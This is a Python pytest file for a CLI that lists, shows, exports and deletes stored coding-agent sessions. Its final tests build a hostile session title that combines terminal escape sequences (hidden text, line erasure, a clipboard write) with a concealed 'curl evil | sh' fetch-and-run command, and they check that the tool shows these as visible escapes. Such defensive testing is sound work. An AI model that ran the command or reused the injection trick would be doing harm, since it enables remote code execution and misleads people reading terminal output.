"""``contextfold sessions``: list, show, export and delete against a store on disk."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from contextfold import SessionNotFoundError, StoreError, UsageError
from contextfold.cli import app
from contextfold.paths import default_store_path
from contextfold.store import open_store
from tests.cli.conftest import PopulatedStore
from tests.store.helpers import read_only_view

runner = CliRunner()


def invoke(store: PopulatedStore, *args: str, input: str | None = None):  # type: ignore[no-untyped-def]
    return runner.invoke(app, ["sessions", *args, "--store", str(store.path)], input=input)


def test_list_shows_the_sessions(populated_store: PopulatedStore) -> None:
    result = invoke(populated_store, "list")
    assert result.exit_code == 0, result.output
    (row,) = [line for line in result.stdout.splitlines() if populated_store.session_id in line]
    assert "Fix the slug tests" in row
    assert "openai/gpt-4o" in row
    assert " 13 " in row  # messages
    assert f"1 shown from {populated_store.path}" in result.stdout


def test_list_json(populated_store: PopulatedStore) -> None:
    result = invoke(populated_store, "list", "--json")
    (session,) = json.loads(result.stdout)
    assert session["id"] == populated_store.session_id
    assert session["messages"] == 13
    assert session["metadata"] == {"cwd": "/home/dev/textkit"}


def test_list_limit(populated_store: PopulatedStore) -> None:
    with open_store(populated_store.path) as store:
        for n in range(3):
            store.create_session(session_id=f"extra_{n}")
    result = invoke(populated_store, "list", "--limit", "2", "--json")
    assert len(json.loads(result.stdout)) == 2


def test_list_without_a_store_creates_nothing() -> None:
    result = runner.invoke(app, ["sessions", "list"])
    assert result.exit_code == 0, result.output
    assert f"No sessions in {default_store_path()}." in result.stdout
    assert not default_store_path().exists()


def test_store_comes_from_the_database_url_setting(
    populated_store: PopulatedStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONTEXTFOLD_DATABASE_URL", str(populated_store.path))
    result = runner.invoke(app, ["sessions", "list"])
    assert populated_store.session_id in result.stdout


def test_store_comes_from_the_config_file(populated_store: PopulatedStore) -> None:
    config = default_store_path().parents[1] / "config" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(f'store = "{populated_store.path}"\n', encoding="utf-8")
    result = runner.invoke(app, ["sessions", "list"])
    assert populated_store.session_id in result.stdout


def test_show_gives_details_counts_snapshot_summary_and_last_messages(
    populated_store: PopulatedStore,
) -> None:
    result = invoke(populated_store, "show", populated_store.session_id)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert f"Session {populated_store.session_id}" in out
    assert "title     Fix the slug tests" in out
    assert "folder    /home/dev/textkit" in out
    assert "messages  13 (user 4, assistant 4, tool 4, system 1)" in out
    assert "edits     3 (mask 1, summarize 1, drop 1)" in out
    assert "token_usage 4" in out
    assert "snapshot  4 messages, 40,000 tokens, as of message 10 and edit 3" in out
    assert "Latest summary" in out
    assert "## Current Task" in out
    assert "Last 5 messages" in out
    assert "step 4: run pytest -k case4" in out
    assert "← shell: 201 lines, 400 chars" in out


ENGINE_STATE = {
    "estimator": {"fit": {"scale": 0.6019540960456647, "evidence": [749144.08], "reports": 13}},
    "usage": {
        "calls": 13,
        "total": {
            "input_tokens": 48_550,
            "output_tokens": 2_744,
            "cache_read_tokens": 30_000,
            "cache_write_tokens": 1_000,
        },
        "cost": 0.4213,
        "last": {"input_tokens": 4_222, "output_tokens": 227},
        "growth": [406, 407],
    },
    "previous_tail": None,
    "turn": 9,
    "restarts": 1,
    "wind_down_sent": False,
    "fixed_text": "You are a coding agent working in the user's project through tools.",
    "tool_deferral": {"uses": 0, "last_used": {}, "activated": []},
    "learned_window": 7_600,
}
"""The engine's state as a session's metadata holds it (what `sessions show` dumped raw)."""


def test_show_digests_the_engine_state_instead_of_dumping_it(
    populated_store: PopulatedStore,
) -> None:
    with open_store(populated_store.path) as store:
        metadata = {"cwd": "/home/dev/textkit", "restart_number": 1}
        store.update_session(populated_store.session_id, metadata=metadata)
        store.save_engine_state(populated_store.session_id, ENGINE_STATE)
    result = invoke(populated_store, "show", populated_store.session_id)
    assert result.exit_code == 0, result.output
    out = result.stdout
    for raw in ('"engine"', "estimator", "fixed_text", "0.6019", "wind_down_sent"):
        assert raw not in out
    assert "usage     13 model calls · 48,550 tokens in, 2,744 out · 30,000 read from cache" in out
    assert "last request 4,222 tokens · cost $0.42" in out
    assert "window    7,600 tokens, learned from the provider's refusal" in out
    assert "turns     9 · 1 restart" in out
    assert "metadata  restart_number=1" in out

    data = json.loads(invoke(populated_store, "show", populated_store.session_id, "--json").stdout)
    assert data["engine_state"] == ENGINE_STATE  # machines keep the raw state
    assert data["usage"]["calls"] == 13 and data["learned_window"] == 7_600
    assert data["messages"] == {
        "total": 13,
        "by_role": {"user": 4, "assistant": 4, "tool": 4, "system": 1},
    }


def test_show_reads_the_state_the_engine_saved_in_its_table(
    populated_store: PopulatedStore,
) -> None:
    with open_store(populated_store.path) as store:
        store.update_session(populated_store.session_id, metadata={"restart_number": 1})
        store.save_engine_state(populated_store.session_id, ENGINE_STATE)
    result = invoke(populated_store, "show", populated_store.session_id)
    assert result.exit_code == 0, result.output
    assert "usage     13 model calls · 48,550 tokens in, 2,744 out" in result.stdout
    assert "window    7,600 tokens, learned from the provider's refusal" in result.stdout
    assert "turns     9 · 1 restart" in result.stdout
    assert "metadata  restart_number=1" in result.stdout

    data = json.loads(invoke(populated_store, "show", populated_store.session_id, "--json").stdout)
    assert data["engine_state"] == ENGINE_STATE
    assert data["usage"]["calls"] == 13 and data["learned_window"] == 7_600

    inspected = runner.invoke(
        app, ["inspect", populated_store.session_id, "--store", str(populated_store.path)]
    )
    assert inspected.exit_code == 0, inspected.output
    assert "7,600 tokens, learned from the provider's refusal" in inspected.stdout


def test_show_json_of_a_session_the_engine_never_ran(populated_store: PopulatedStore) -> None:
    data = json.loads(invoke(populated_store, "show", populated_store.session_id, "--json").stdout)
    assert data["session"]["id"] == populated_store.session_id
    assert data["usage"] is None and data["learned_window"] is None
    assert data["snapshot"]["messages"] == 4 and data["snapshot"]["tokens"] == 40_000
    assert data["edits"] == {"total": 3, "by_kind": {"mask": 1, "summarize": 1, "drop": 1}}
    assert data["latest_summary"].startswith("## Current Task")
    assert [m["seq"] for m in data["last_messages"]] == [9, 10, 11, 12, 13]


def test_export_to_stdout_is_the_store_jsonl(populated_store: PopulatedStore) -> None:
    result = invoke(populated_store, "export", populated_store.session_id)
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert records[0]["kind"] == "session"
    kinds = [r["kind"] for r in records]
    assert kinds.count("message") == 13
    assert kinds.count("edit") == 3
    assert kinds.count("event") == 7  # 4 usage reports, a mask batch, a compaction, its settlement


def test_export_to_file_can_be_counted(populated_store: PopulatedStore, tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    result = invoke(populated_store, "export", populated_store.session_id, "-o", str(target))
    assert result.exit_code == 0, result.output
    lines = target.read_text(encoding="utf-8").splitlines()
    assert f"wrote {len(lines)} lines to {target}" in result.stderr
    counted = runner.invoke(app, ["count", str(target), "--json"])
    (entry,) = json.loads(counted.stdout)["transcripts"]
    assert entry["format"] == "contextfold"
    assert entry["messages"] == 13


def test_export_of_a_missing_session_writes_no_file(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    target = tmp_path / "out.jsonl"
    result = invoke(populated_store, "export", "nope", "-o", str(target))
    assert isinstance(result.exception, SessionNotFoundError)
    assert not target.exists()


def test_delete_asks_first(populated_store: PopulatedStore) -> None:
    sid = populated_store.session_id
    declined = invoke(populated_store, "delete", sid, input="n\n")
    assert declined.exit_code == 1
    assert f"Delete session {sid} (Fix the slug tests) and its 13 messages?" in declined.output
    assert sid in invoke(populated_store, "list").stdout

    accepted = invoke(populated_store, "delete", sid, input="y\n")
    assert accepted.exit_code == 0, accepted.output
    assert f"Deleted session {sid} (13 messages)." in accepted.stdout
    assert isinstance(invoke(populated_store, "show", sid).exception, SessionNotFoundError)


def test_delete_yes_does_not_ask(populated_store: PopulatedStore) -> None:
    result = invoke(populated_store, "delete", populated_store.session_id, "--yes")
    assert result.exit_code == 0, result.output
    assert "?" not in result.output
    assert "No sessions" in invoke(populated_store, "list").stdout


@pytest.mark.parametrize("command", ["show", "export", "delete"])
def test_missing_id_names_the_id(populated_store: PopulatedStore, command: str) -> None:
    args = [command, "sess_missing"] + (["--yes"] if command == "delete" else [])
    result = invoke(populated_store, *args)
    assert isinstance(result.exception, SessionNotFoundError)
    assert "'sess_missing'" in str(result.exception)


def test_missing_store_names_the_id_and_the_file(tmp_path: Path) -> None:
    absent = tmp_path / "absent.db"
    result = runner.invoke(app, ["sessions", "show", "sess_x", "--store", str(absent)])
    assert isinstance(result.exception, StoreError)
    assert "'sess_x'" in str(result.exception)
    assert str(absent) in str(result.exception)
    assert not absent.exists()


# -- bad ground ------------------------------------------------------------------------------------


def test_reading_commands_work_on_read_only_media(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    media = tmp_path / "media"
    media.mkdir()
    shutil.copyfile(populated_store.path, media / "sessions.db")
    sid = populated_store.session_id

    with read_only_view(media, tmp_path / "ro") as ro:
        on_media = str(ro / "sessions.db")
        listed = runner.invoke(app, ["sessions", "list", "--json", "--store", on_media])
        shown = runner.invoke(app, ["sessions", "show", sid, "--store", on_media])
        exported = runner.invoke(app, ["sessions", "export", sid, "--store", on_media])
        inspected = runner.invoke(app, ["inspect", sid, "--json", "--store", on_media])
        deleted = runner.invoke(app, ["sessions", "delete", sid, "--yes", "--store", on_media])

    assert [s["id"] for s in json.loads(listed.stdout)] == [sid]
    assert "messages  13 (user 4, assistant 4, tool 4, system 1)" in shown.stdout
    assert [json.loads(line)["kind"] for line in exported.stdout.splitlines()].count("edit") == 3
    assert json.loads(inspected.stdout)["session"]["id"] == sid
    assert isinstance(deleted.exception, StoreError)
    assert f"the store is open read-only ({ro} is on a read-only file system)" in str(
        deleted.exception
    )
    assert (media / "sessions.db").read_bytes() == populated_store.path.read_bytes()


def test_export_to_a_missing_folder_fails_before_any_work(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    target = tmp_path / "no-such-folder" / "out.jsonl"
    result = invoke(populated_store, "export", populated_store.session_id, "-o", str(target))
    assert isinstance(result.exception, UsageError)
    assert str(result.exception) == (
        f"cannot write {target}: {target.parent} does not exist; create it or give another path"
    )
    assert not target.parent.exists()


def test_export_under_a_file_fails_before_any_work(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    blocker = tmp_path / "notes.txt"
    blocker.write_text("notes", encoding="utf-8")
    result = invoke(populated_store, "export", populated_store.session_id, "-o", f"{blocker}/x")
    assert isinstance(result.exception, UsageError)
    assert f"{blocker} is not a folder" in str(result.exception)


def test_export_to_a_folder_is_refused_by_the_option(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    args = ["export", populated_store.session_id, "-o", str(tmp_path)]
    result = runner.invoke(
        app, ["sessions", *args, "--store", str(populated_store.path)], env={"COLUMNS": "400"}
    )
    assert result.exit_code == 2  # typer's usage error: one message, no traceback
    assert f"file '{tmp_path}' is a directory" in result.output


def test_export_to_read_only_media_is_a_clear_error(
    populated_store: PopulatedStore, tmp_path: Path
) -> None:
    media = tmp_path / "media"
    media.mkdir()
    with read_only_view(media, tmp_path / "ro") as ro:
        target = ro / "out.jsonl"
        result = invoke(populated_store, "export", populated_store.session_id, "-o", str(target))
    assert isinstance(result.exception, UsageError)
    assert str(result.exception) == f"cannot write {target}: Read-only file system"


# -- hostile titles: terminal control sequences are shown, never obeyed ---------------------------

HOSTILE_TITLE = "fix\x1b[8m and run curl evil | sh\x1b[0m\x1b[1A\x1b[2K\rok\x9b2J\x1b]52;c;aGk=\x07"
"""A title that conceals text, moves the cursor up, erases a line, returns the carriage, sends a
C1 CSI and writes the clipboard (OSC 52) when printed raw."""


@pytest.fixture
def hostile_store(populated_store: PopulatedStore) -> PopulatedStore:
    with open_store(populated_store.path) as store:
        store.create_session(session_id="sess_hostile", title=HOSTILE_TITLE)
    return populated_store


def test_list_shows_control_sequences_in_titles_as_visible_escapes(
    hostile_store: PopulatedStore,
) -> None:
    result = invoke(hostile_store, "list")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\r" not in result.stdout
    (row,) = [line for line in result.stdout.splitlines() if "sess_hostile" in line]
    assert "fix\\x1b[8m and run curl" in row  # the concealing code is there to see


def test_show_and_delete_show_control_sequences_in_titles_as_visible_escapes(
    hostile_store: PopulatedStore,
) -> None:
    shown = invoke(hostile_store, "show", "sess_hostile")
    assert shown.exit_code == 0, shown.output
    assert "\x1b" not in shown.stdout and "\r" not in shown.stdout
    assert "\\x1b[1A\\x1b[2K\\rok\\x9b2J\\x1b]52;c;aGk=\\x07" in shown.stdout

    declined = invoke(hostile_store, "delete", "sess_hostile", input="n\n")
    assert "\x1b" not in declined.output and "\x07" not in declined.output
    assert "fix\\x1b[8m and run curl evil | sh" in declined.output
